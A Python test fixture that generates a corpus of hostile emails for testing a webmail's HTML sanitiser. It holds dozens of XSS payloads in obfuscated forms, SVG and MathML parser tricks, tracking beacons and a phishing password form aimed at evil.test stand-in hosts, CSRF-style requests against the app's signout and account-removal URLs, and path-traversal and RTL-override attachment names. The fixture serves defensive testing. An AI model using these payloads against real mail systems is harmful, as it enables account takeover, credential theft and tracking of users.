"""Hostile messages: what an attacker mails to a webmail user, for the security tests.

    for name, raw in hostile_messages(app_origin):
        lab.append("victim@inkorg.test", raw)

Every message is From Mallory (except display-name-spoof, whose display name is a different
address) To victim@inkorg.test, with a Subject naming the case, a Date and a Message-ID
<name@evil.test>. Most are multipart/alternative: a harmless text/plain part and the hostile
text/html part. Raw bytes with CRLF line ends, every line under 998 octets.

Remote URLs all point at *.evil.test (mostly HOST_MARK itself), each with its own path
(/bg.png, /srcset.png, ...) so a test can tell which payload leaked a request. The only other
URLs are the webmail's own origin (app_origin: payloads aiming at its state-changing URLs) and
the XML namespace names http://www.w3.org/... in SVG documents, which are never fetched.
"cid-image" is the one legitimate message: its inline image should display.
"""

from __future__ import annotations

import base64
import struct
import zlib

HOST_MARK = "tracker.evil.test"

CRLF = b"\r\n"
FROM = "Mallory <mallory@evil.test>"
TO = "victim@inkorg.test"
APP = "@APP@"  # stands for app_origin in the HTML sources below


def _crlf(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\n", "\r\n")


def _entity(headers: list[str], body: bytes) -> bytes:
    head = CRLF.join(h.encode("ascii") for h in headers)
    return head + CRLF + CRLF + body


def _leaf(content_type: str, body: str | bytes, *extra: str, charset: str = "utf-8") -> bytes:
    """A single part sent as is: 7bit when the body is ASCII, else 8bit."""
    data = _crlf(body).encode(charset) if isinstance(body, str) else body
    if not data.endswith(CRLF):
        data += CRLF
    cte = "7bit" if data.isascii() else "8bit"
    return _entity(
        [f"Content-Type: {content_type}", f"Content-Transfer-Encoding: {cte}", *extra], data
    )


def _b64leaf(content_type: str, data: bytes, *extra: str) -> bytes:
    encoded = base64.encodebytes(data).replace(b"\n", CRLF)
    return _entity(
        [f"Content-Type: {content_type}", "Content-Transfer-Encoding: base64", *extra], encoded
    )


def _multipart(subtype: str, boundary: str, parts: list[bytes], params: str = "") -> bytes:
    b = boundary.encode("ascii")
    body = b"This is a multi-part message in MIME format." + CRLF
    for part in parts:
        body += b"--" + b + CRLF + part + CRLF
    body += b"--" + b + b"--" + CRLF
    return _entity([f'Content-Type: multipart/{subtype}; boundary="{boundary}"{params}'], body)


def _plain(text: str) -> bytes:
    return _leaf("text/plain; charset=utf-8", text)


def _html(html: str, charset: str = "utf-8") -> bytes:
    return _leaf(f"text/html; charset={charset}", html, charset=charset)


def _doc(body: str, head: str = "", body_attrs: str = "") -> str:
    return (
        '<!DOCTYPE html>\n<html>\n<head>\n<meta charset="utf-8">\n'
        f"{head}</head>\n<body{body_attrs}>\n{body}</body>\n</html>\n"
    )


def _b64word(text: str) -> str:
    return f"=?utf-8?B?{base64.b64encode(text.encode()).decode('ascii')}?="


def _png(size: int = 1) -> bytes:
    """A real size x size opaque red PNG (RGB, 8 bit)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + crc

    ihdr = struct.pack(">IIBBBBB", size, size, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"".join(b"\x00" + b"\xff\x00\x00" * size for _ in range(size)))  # filter 0, RGB pixels
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


# --- the hostile HTML, case by case ------------------------------------------------------------

_JS_LINKS = """\
<p>Links whose href runs script:</p>
<ul>
<li><a href="javascript:alert(1)">plain javascript:</a></li>
<li><a href="&#106;avascript:alert(1)">decimal entity &amp;#106;avascript:</a></li>
<li><a href="&#x6A;avascript&colon;alert(1)">hex entity and &amp;colon;</a></li>
<li><a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">zero-padded entities, no semicolons</a></li>
<li><a href="java\tscript:alert(1)">raw tab: java&lt;TAB&gt;script:</a></li>
<li><a href="java\nscript:alert(1)">raw newline: java&lt;NL&gt;script:</a></li>
<li><a href="java&#x09;script:alert(1)">java&amp;#x09;script:</a></li>
<li><a href="java&#x0A;script:alert(1)">java&amp;#x0A;script:</a></li>
<li><a href="java&NewLine;script&colon;alert(1)">java&amp;NewLine;script&amp;colon;</a></li>
<li><a href="   \n\t  javascript:alert(1)">leading spaces and newlines</a></li>
<li><a href="&#x01;&#x20;javascript:alert(1)">leading control character</a></li>
<li><a href="JaVaScRiPt:alert(1)">mixed case JaVaScRiPt:</a></li>
<li><a href="javascript&#58;alert(1)">javascript&amp;#58;</a></li>
<li><a href="javascript:alert(1)//https://ok.evil.test/">javascript: dressed as a URL</a></li>
</ul>
<p><img src="javascript:alert(1)" alt="img javascript:"></p>
<form action="javascript:alert(1)"><button>form action javascript:</button></form>
<form><button formaction="javascript:alert(1)">formaction javascript:</button></form>
<map name="m"><area shape="rect" coords="0,0,100,100" href="javascript:alert(1)" alt="area"></map>
<iframe src="javascript:alert(1)"></iframe>
"""

_VBSCRIPT_DATA = """\
<ul>
<li><a href="vbscript:msgbox(1)">vbscript:</a></li>
<li><a href="VBScript:MsgBox(1)">VBScript: mixed case</a></li>
<li><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data: base64 html</a></li>
<li><a href="data:text/html,<script>alert(1)</script>">data: html</a></li>
<li><a href="DATA:text/html,%3Cscript%3Ealert(1)%3C/script%3E">DATA: percent-encoded</a></li>
</ul>
<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
"""

_BASE_HREF = """\
<p>A base element that re-points relative URLs at the webmail itself:</p>
<p><a href="settings/email-account/remove">View your invoice</a></p>
<p><img src="inbox/refresh" alt=""><img src="/signout" alt=""></p>
<p><a href="signout">Unsubscribe</a></p>
"""

_SVG_ANIMATE = """\
<svg><a><animate attributeName="href" to="javascript:alert(1)"/><text y="20">click</text></a></svg>
<svg><a><set attributeName="xlink:href" to="javascript:alert(2)"/><text y="20">click too</text></a></svg>
<svg><set attributeName="onmouseover" to="alert(1)"/></svg>
<svg onload=alert(1)>
<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>
<svg><script>alert(1)</script></svg>
"""

_SVG_INNER = (
    '<svg id="x" xmlns="http://www.w3.org/2000/svg">'
    "<script>alert(1)</script></svg>"
)
_SVG_USE = f"""\
<svg><use href="data:image/svg+xml;base64,{base64.b64encode(_SVG_INNER.encode()).decode()}#x"/></svg>
<svg><use xlink:href="https://tracker.evil.test/use.svg#x"/></svg>
<svg><foreignObject><iframe src="data:text/html,<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><image href="https://tracker.evil.test/svgimage.png"/></svg>
"""

_MATHML = """\
<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>
<math href="javascript:alert(1)"><mtext>click</mtext></math>
<math><mi xlink:href="javascript:alert(1)">y</mi></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=alert(1)&gt;"></mglyph></table></mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>
"""

_CDATA_COMMENT = """\
<p>one</p>
<![CDATA[><img src=x onerror=alert(1)>]]>
<p>two</p>
<!--><img src=x onerror=alert(1)>-->
<p>three</p>
<!-- --!><img src=x onerror=alert(1)> -->
<p>four</p>
<!--<img src="--><img src=x onerror=alert(1)//">
<p>five</p>
<? <img src=x onerror=alert(1)> ?>
"""

# <plaintext> swallows the rest of the document, so it goes last.
_PARSER_MISMATCH = """\
<textarea><img src=x onerror=alert(1)></textarea>
<style><img src=x onerror=alert(1)></style>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<title><img src=x onerror=alert(1)></title>
<xmp><img src=x onerror=alert(1)></xmp>
<noembed><img src=x onerror=alert(1)></noembed>
<noframes><img src=x onerror=alert(1)></noframes>
<iframe><img src=x onerror=alert(1)></iframe>
<template><img src=x onerror=alert(1)></template>
<select><template><style><img src=x onerror=alert(1)></style></template></select>
<svg><style><img src=x onerror=alert(1)></style></svg>
<plaintext><img src=x onerror=alert(1)>
"""

_OVERLAY = """\
<p>Hello,</p>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red;z-index:99999">Your session expired, <a href="https://login.evil.test/">sign in again</a></div>
<div class="cover">Your mailbox is full. <a href="https://login.evil.test/quota">Upgrade now</a></div>
<div style="position:absolute;top:-2000px;left:-2000px;width:6000px;height:6000px;background:white"><a href="https://login.evil.test/big" style="display:block;width:100%;height:100%">.</a></div>
<div style="transform:scale(50);transform-origin:0 0">Tap anywhere</div>
"""
_OVERLAY_HEAD = """\
<style>.cover{position:fixed;inset:0;z-index:2147483647;background:#fff;font-size:48px}</style>
"""

_CSS_HEAD = """\
<style>@import url(https://tracker.evil.test/import.css); body{background:url(https://tracker.evil.test/style.png)}</style>
<style>@import "https://tracker.evil.test/import-string.css";</style>
<style>@font-face{font-family:x;src:url(https://tracker.evil.test/font.woff)} p{font-family:x}</style>
<link rel="stylesheet" href="https://tracker.evil.test/link.css">
<link rel="preload" as="image" href="https://tracker.evil.test/preload.png">
<link rel="prefetch" href="https://tracker.evil.test/prefetch">
<link rel="dns-prefetch" href="//dns.evil.test">
"""
_CSS_TRACKERS = """\
<div style="background:url(https://tracker.evil.test/bg.png)">background url()</div>
<div style="background-image: u\\72 l(https://tracker.evil.test/esc.png)">CSS escape u\\72 l(</div>
<div style="--x:url(https://tracker.evil.test/var.png); background: var(--x)">custom property</div>
<div style="background:url('//tracker.evil.test/protocol-relative.png')">protocol-relative</div>
<div style="background-image:image-set(url(https://tracker.evil.test/image-set.png) 1x)">image-set()</div>
<div style="background-image:-webkit-image-set(url(https://tracker.evil.test/webkit-image-set.png) 1x)">-webkit-image-set()</div>
<ul style="list-style-image:url(https://tracker.evil.test/list.png)"><li>list-style-image</li></ul>
<div style="cursor:url(https://tracker.evil.test/cursor.png),auto">cursor</div>
<div style="border:10px solid;border-image:url(https://tracker.evil.test/border.png) 30">border-image</div>
<div style="mask-image:url(https://tracker.evil.test/mask.png)">mask-image</div>
<div style="background:\\75\\72\\6c(https://tracker.evil.test/esc-all.png)">fully escaped \\75\\72\\6c(</div>
<div style="background:url(https://tracker.evil.test/comment.png)/**/">after a comment</div>
<div style="behavior:url(https://tracker.evil.test/behavior.htc);width:expression(alert(1))">IE behavior/expression</div>
<p>CSS trackers</p>
"""

_IMG_TRACKERS = """\
<img src="https://tracker.evil.test/pixel.gif" width=1 height=1>
<img srcset="https://tracker.evil.test/srcset.png 2x">
<picture><source srcset="https://tracker.evil.test/source.png"><img alt="picture"></picture>
<table background="https://tracker.evil.test/table.png"><tr><td background="https://tracker.evil.test/td.png">cell</td></tr></table>
<img src="//tracker.evil.test/protocol-relative.gif" alt="">
<img src="https://tracker.evil.test:443/port.gif" alt="">
<img src="https://img.evil.test/subdomain.gif" alt="">
<img lowsrc="https://tracker.evil.test/lowsrc.gif" dynsrc="https://tracker.evil.test/dynsrc.avi" alt="">
<img src="x" data-src="https://tracker.evil.test/lazy.gif" loading="lazy" alt="">
<img src="https://tracker.evil.test/pixel.gif?r=victim%40inkorg.test" alt="" style="display:none">
<p>Image trackers</p>
"""

_EMBEDS = """\
<input type="image" src="https://tracker.evil.test/input.png">
<video poster="https://tracker.evil.test/poster.png"></video>
<video autoplay><source src="https://tracker.evil.test/video.mp4" type="video/mp4"><track src="https://tracker.evil.test/track.vtt"></video>
<audio src="https://tracker.evil.test/a.mp3" autoplay></audio>
<iframe src="https://tracker.evil.test/frame"></iframe>
<iframe srcdoc="<script>alert(1)</script><img src=https://tracker.evil.test/srcdoc.png>"></iframe>
<object data="https://tracker.evil.test/object.swf" type="application/x-shockwave-flash"></object>
<embed src="https://tracker.evil.test/embed.swf">
<frameset><frame src="https://tracker.evil.test/frameset"></frameset>
<portal src="https://tracker.evil.test/portal"></portal>
"""

_HTMX_HEAD = """\
<meta http-equiv="refresh" content="0;url=https://tracker.evil.test/meta">
"""
_HTMX = """\
<div data-hx-post="@APP@/signout" data-hx-trigger="load">x</div>
<button hx-get="@APP@/inbox/refresh" hx-trigger="load">refresh</button>
<div hx-post="@APP@/settings/email-account/remove" hx-trigger="load" hx-target="body" hx-swap="outerHTML">remove</div>
<div hx-on:click="alert(1)">hx-on:click</div>
<div hx-on::load="alert(1)">hx-on::load</div>
<div data-hx-on:click="alert(1)">data-hx-on:click</div>
<div hx-get="https://tracker.evil.test/hx" hx-trigger="load">remote hx-get</div>
<div hx-vals='js:{a: alert(1)}' hx-post="@APP@/signout" hx-trigger="load">hx-vals js:</div>
<form action="@APP@/signout" method="post"><button>Win a prize</button></form>
<form action="@APP@/settings/email-account/remove" method="post"><input type="hidden" name="confirm" value="yes"><input type="submit" value="Claim your gift card"></form>
<a href="@APP@/signout">Read more</a>
<meta http-equiv="refresh" content="0;url=https://tracker.evil.test/meta-body">
"""

_EVENTS = """\
<img src=x onerror=alert(1)>
<body onload=alert(1)>
<div onmouseover="alert(1)">hover me</div>
<details open ontoggle=alert(1)><summary>details</summary>x</details>
<a href="https://ok.evil.test/" onclick="alert(1)">ok link with onclick</a>
<input autofocus onfocus=alert(1)>
<marquee onstart=alert(1)>marquee</marquee>
<p ONCLICK="alert(1)">upper-case handler</p>
<p/onclick=alert(1)>slash-separated handler</p>
<img src=x:x onerror&#x3D;alert(1)>
<video><source onerror="alert(1)"></video>
<style onload=alert(1)></style>
"""

_LINK_TARGETS = """\
<p><a href="https://tracker.evil.test/top" target="_top">target=_top</a></p>
<p><a href="https://tracker.evil.test/parent" target="_parent">target=_parent</a></p>
<p><a href="https://tracker.evil.test/blank" target="_blank">target=_blank (window.opener)</a></p>
<p><a href="https://tracker.evil.test/blank-opener" target="_blank" rel="opener">rel=opener</a></p>
<p><a href="https://tracker.evil.test/named" target="inkorg">named window</a></p>
<p><a href="@APP@/signout" target="_top">sign out the webmail itself</a></p>
<form action="https://login.evil.test/collect" method="post" target="_top">
<p>Your password expired. Confirm it to keep your mailbox:</p>
<input type="email" name="user" value="victim@inkorg.test" autocomplete="username">
<input type="password" name="password" autocomplete="current-password">
<button>Confirm</button>
</form>
<form><button formaction="https://login.evil.test/formaction" formmethod="post" formtarget="_top">Continue</button></form>
"""

_SCRIPTS = """\
<script>alert(1)</script>
<SCRIPT SRC=https://tracker.evil.test/x.js></SCRIPT>
<script type="module">import "https://tracker.evil.test/module.js";</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/xss src="https://tracker.evil.test/slash.js"></script>
<<script>alert(1);//<</script>
<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">
<a href="https://ok.evil.test/" style="x:expression(alert(1))">expression()</a>
<p>scripts</p>
"""

# Quoted-printable where the soft line breaks and =XX escapes split the hostile tokens.
_QP_HTML = (
    b"<p>Quoted-printable hiding:</p>\r\n"
    b"<a href=3D\"java=\r\nscript:alert(1)\">soft break inside javascript:</a>\r\n"
    b"=3Cscript=3Ealert(1)=3C/script=3E\r\n"
    b"<img src=3Dx on=\r\nerror=3Dalert(1)>\r\n"
    b"<img src=3D\"https://tracker.evil.test/q=\r\np.gif\">\r\n"
)


def hostile_messages(app_origin: str = "http://127.0.0.1:5000") -> list[tuple[str, bytes]]:
    """(name, raw message) pairs; app_origin is the webmail's own origin, used by payloads that
    aim at the app's own state-changing URLs (e.g. f"{app_origin}/settings/email-account/remove",
    "/signout", "/inbox/refresh")."""
    app_origin = app_origin.rstrip("/")
    messages: list[tuple[str, bytes]] = []

    def headers(name: str, subject: str, sender: str = FROM) -> list[str]:
        minute = len(messages)
        return [
            f"From: {sender}",
            f"To: {TO}",
            f"Subject: {subject}",
            f"Date: Mon, 16 Jun 2025 {9 + minute // 60:02d}:{minute % 60:02d}:00 +0000",
            f"Message-ID: <{name}@evil.test>",
            "MIME-Version: 1.0",
        ]

    def add(name: str, subject: str, entity: bytes, sender: str = FROM) -> None:
        assert name not in dict(messages), name
        top = CRLF.join(h.encode("ascii") for h in headers(name, subject, sender))
        messages.append((name, top + CRLF + entity))

    def text_for(name: str) -> bytes:
        return _plain(
            f"Hostile corpus case '{name}'.\n"
            "The HTML part of this message is hostile; the webmail must show it sanitised.\n"
        )

    def alternative(
        name: str, subject: str, html: str, head: str = "", body_attrs: str = ""
    ) -> None:
        doc = _doc(html, head, body_attrs).replace(APP, app_origin)
        add(name, f"[hostile] {name}: {subject}",
            _multipart("alternative", f"==alt-{name}==", [text_for(name), _html(doc)]))  # fmt: skip

    # --- script in URLs -----------------------------------------------------------------
    alternative("js-links", "javascript: URLs in every disguise", _JS_LINKS)
    alternative("vbscript-data-links", "vbscript: and data: URLs", _VBSCRIPT_DATA)
    alternative("base-href", "a base element pointing at the webmail", _BASE_HREF,
                head=f'<base href="{app_origin}/">\n')  # fmt: skip

    # --- SVG and MathML -------------------------------------------------------------------
    alternative("svg-animate", "SVG animate/set writing href and handlers", _SVG_ANIMATE)
    alternative("svg-use-foreignobject", "SVG use and foreignObject", _SVG_USE)
    alternative("mathml", "MathML links and namespace confusion", _MATHML)

    # --- parsing tricks -------------------------------------------------------------------
    alternative("cdata-comment", "CDATA and comment tricks", _CDATA_COMMENT)
    alternative("parser-mismatch", "raw-text elements hiding markup", _PARSER_MISMATCH)

    # --- UI redress -----------------------------------------------------------------------
    alternative("overlay", "a full-window phishing overlay", _OVERLAY, head=_OVERLAY_HEAD)
    alternative("link-targets", "links and forms aimed at the top window", _LINK_TARGETS)

    # --- remote content (trackers) --------------------------------------------------------
    alternative("css-trackers", "remote images in CSS", _CSS_TRACKERS, head=_CSS_HEAD)
    alternative("img-trackers", "tracking pixels", _IMG_TRACKERS,
                body_attrs=' background="https://tracker.evil.test/body.png"')  # fmt: skip
    alternative("input-image-video-poster", "remote media and embedded frames", _EMBEDS)

    # --- the webmail's own machinery --------------------------------------------------------
    alternative("htmx-attributes", "htmx attributes, forms and meta refresh", _HTMX,
                head=_HTMX_HEAD)  # fmt: skip
    alternative("event-handlers", "inline event handlers", _EVENTS)
    alternative("script-tags", "script elements", _SCRIPTS)

    # --- transfer encodings and charsets ------------------------------------------------------
    name = "utf7"
    utf7 = (
        "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-7\">"
        "</head><body>\n<p>UTF-7</p>\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-\n"
        "+ADw-img src+AD0-x onerror+AD0-alert(1)+AD4-\n</body></html>\n"
    )
    add(name, "[hostile] utf7: a text/html part in UTF-7", _multipart(
        "alternative", f"==alt-{name}==",
        [text_for(name), _leaf("text/html; charset=utf-7", utf7.encode("ascii"))],
    ))  # fmt: skip

    name = "quoted-printable-split"
    qp = _entity(
        ["Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: quoted-printable"],
        _QP_HTML,
    )
    add(name, "[hostile] quoted-printable-split: QP soft breaks inside payloads",
        _multipart("alternative", f"==alt-{name}==", [text_for(name), qp]))  # fmt: skip

    name = "base64-html"
    b64 = _b64leaf("text/html; charset=utf-8", _crlf(_doc(
        '<img src=x onerror=alert(1)>\n<img src="https://tracker.evil.test/base64.gif">\n'
        '<a href="javascript:alert(1)">base64</a>\n'
    )).encode())  # fmt: skip
    add(name, "[hostile] base64-html: hostile HTML in a base64 part",
        _multipart("alternative", f"==alt-{name}==", [text_for(name), b64]))  # fmt: skip

    name = "html-only"
    add(name, "[hostile] html-only: a lone text/html body, no text alternative",
        _html(_doc('<img src=x onerror=alert(1)>\n'
                   '<img src="https://tracker.evil.test/html-only.gif">\n'
                   "<p>html only</p>\n")))  # fmt: skip

    # --- attachments ---------------------------------------------------------------------------
    name = "html-attachment"
    add(name, "[hostile] html-attachment: invoice.html with a script", _multipart(
        "mixed", f"==mixed-{name}==", [
            _plain("Please find your invoice attached.\n"),
            _leaf("text/html; charset=utf-8; name=\"invoice.html\"",
                  "<!DOCTYPE html>\n<html><body><h1>Invoice</h1>\n<script>alert(1)</script>\n"
                  "<img src=\"https://tracker.evil.test/invoice-open.gif\">\n</body></html>\n",
                  'Content-Disposition: attachment; filename="invoice.html"'),
        ],
    ))  # fmt: skip

    name = "svg-attachment"
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
        "<script>alert(2)</script></svg>\n"
    )
    add(name, "[hostile] svg-attachment: logo.svg with script", _multipart(
        "mixed", f"==mixed-{name}==", [
            _plain("Our new logo is attached.\n"),
            _b64leaf('image/svg+xml; name="logo.svg"', svg.encode(),
                     'Content-Disposition: attachment; filename="logo.svg"'),
        ],
    ))  # fmt: skip

    name = "attachment-names"
    rlo = "invoice\u202efdp.exe"  # shows as "invoiceexe.pdf"
    rlo_2231 = "utf-8''invoice%E2%80%AEfdp.exe"
    img_name = "<img src=x onerror=alert(1)>.png"
    win_2231 = "us-ascii''..%5C..%5Cwindows%5Cwin.ini"
    add(name, "[hostile] attachment-names: path traversal, markup and RTL override", _multipart(
        "mixed", f"==mixed-{name}==", [
            _plain("Four attachments with hostile file names.\n"),
            _leaf('text/plain; charset=us-ascii; name="../../etc/passwd"',
                  "root:x:0:0:not really:/root:/bin/sh\n",
                  'Content-Disposition: attachment; filename="../../etc/passwd"'),
            _b64leaf(f'image/png; name="{img_name}"', _png(),
                     f'Content-Disposition: attachment; filename="{img_name}"'),
            _b64leaf(f'application/octet-stream; name="{_b64word(rlo)}"',
                     b"MZ not really an executable\r\n",
                     f"Content-Disposition: attachment; filename*={rlo_2231}"),
            _leaf(f"text/plain; charset=us-ascii; name*={win_2231}", "[fonts]\n",
                  f"Content-Disposition: attachment; filename*={win_2231}"),
        ],
    ))  # fmt: skip

    # --- headers -----------------------------------------------------------------------------
    name = "subject-xss"
    add(name, "<img src=x onerror=alert(1)> <script>alert(2)</script> " + _b64word("Fråga"),
        _plain("The subject line is hostile; it must be shown as text.\n"))  # fmt: skip

    name = "subject-xss-encoded"
    add(name, _b64word("<img src=x onerror=alert(1)> <script>alert(2)</script> Fråga"),
        _plain("The subject line is hostile once RFC 2047 decoded.\n"))  # fmt: skip

    name = "display-name-spoof"
    add(name, "[hostile] display-name-spoof: urgent account verification",
        _plain("Dear customer, please verify your account within 24 hours.\n"
               "Reply with your card number to support@bank.example.\n"),
        sender='"support@bank.example" <mallory@evil.test>')  # fmt: skip

    name = "cid-escape"
    related = _multipart("related", f"==related-{name}==", [
        _html(_doc("<p>cids that try to name something else than a part of this message:</p>\n"
                   + "".join(f'<img src="cid:{cid}" alt="{n}">\n' for n, cid in enumerate((
                       "../../signout", "..%2F..%2Fsignout", "../../../inbox/refresh", "%2e%2e/%2e%2e/12345",
                       "x/../../../settings/email-account/remove", "real@inkorg.test/../../signout",
                       "real@inkorg.test?x=1", "nonexistent@inkorg.test")))
                   + '<img src="cid:real@inkorg.test" alt="the real one">\n')),
        _b64leaf('image/png; name="real.png"', _png(16), "Content-ID: <real@inkorg.test>",
                 'Content-Disposition: inline; filename="real.png"'),
    ], params='; type="text/html"')  # fmt: skip
    add(name, "[hostile] cid-escape: cids that point outside the message", related)

    # --- the legitimate one: an inline image by Content-ID ---------------------------------------
    name = "cid-image"
    related = _multipart("related", f"==related-{name}==", [
        _html(_doc('<p>Our logo:</p>\n<p><img src="cid:logo@inkorg.test" alt="logo"></p>\n')),
        _b64leaf('image/png; name="logo.png"', _png(16),
                 "Content-ID: <logo@inkorg.test>",
                 'Content-Disposition: inline; filename="logo.png"'),
    ], params='; type="text/html"')  # fmt: skip
    add(name, "[legitimate] cid-image: an inline image that should display", _multipart(
        "alternative", f"==alt-{name}==",
        [_plain("Our logo is shown in the HTML version of this message.\n"), related],
    ))  # fmt: skip

    return messages


if __name__ == "__main__":
    import email
    import email.policy
    import re
    import sys
    from urllib.parse import urlsplit

    origin = sys.argv[1] if len(sys.argv) > 1 else "http://127.0.0.1:5000"
    allowed = {urlsplit(origin).hostname, "www.w3.org"}
    corpus = hostile_messages(origin)
    assert len(corpus) >= 22 and len({n for n, _ in corpus}) == len(corpus)
    for n, raw in corpus:
        msg = email.message_from_bytes(raw, policy=email.policy.default)
        assert msg["Message-ID"] and msg["Date"] and msg["Subject"], n
        assert all(len(line) <= 998 for line in raw.split(CRLF)), n
        text = str(msg["Subject"])
        for part in msg.walk():
            if not part.is_multipart() and part.get_content_maintype() == "text":
                text += part.get_content()
        hosts = {h.lower() for h in re.findall(r"//([A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+)", text)}
        bad = {h for h in hosts if h not in allowed and not h.endswith("evil.test")}
        assert not bad, (n, bad)
        print(f"{n:28} {len(raw):6} bytes  {msg.get_content_type()}")
    print(f"{len(corpus)} messages")
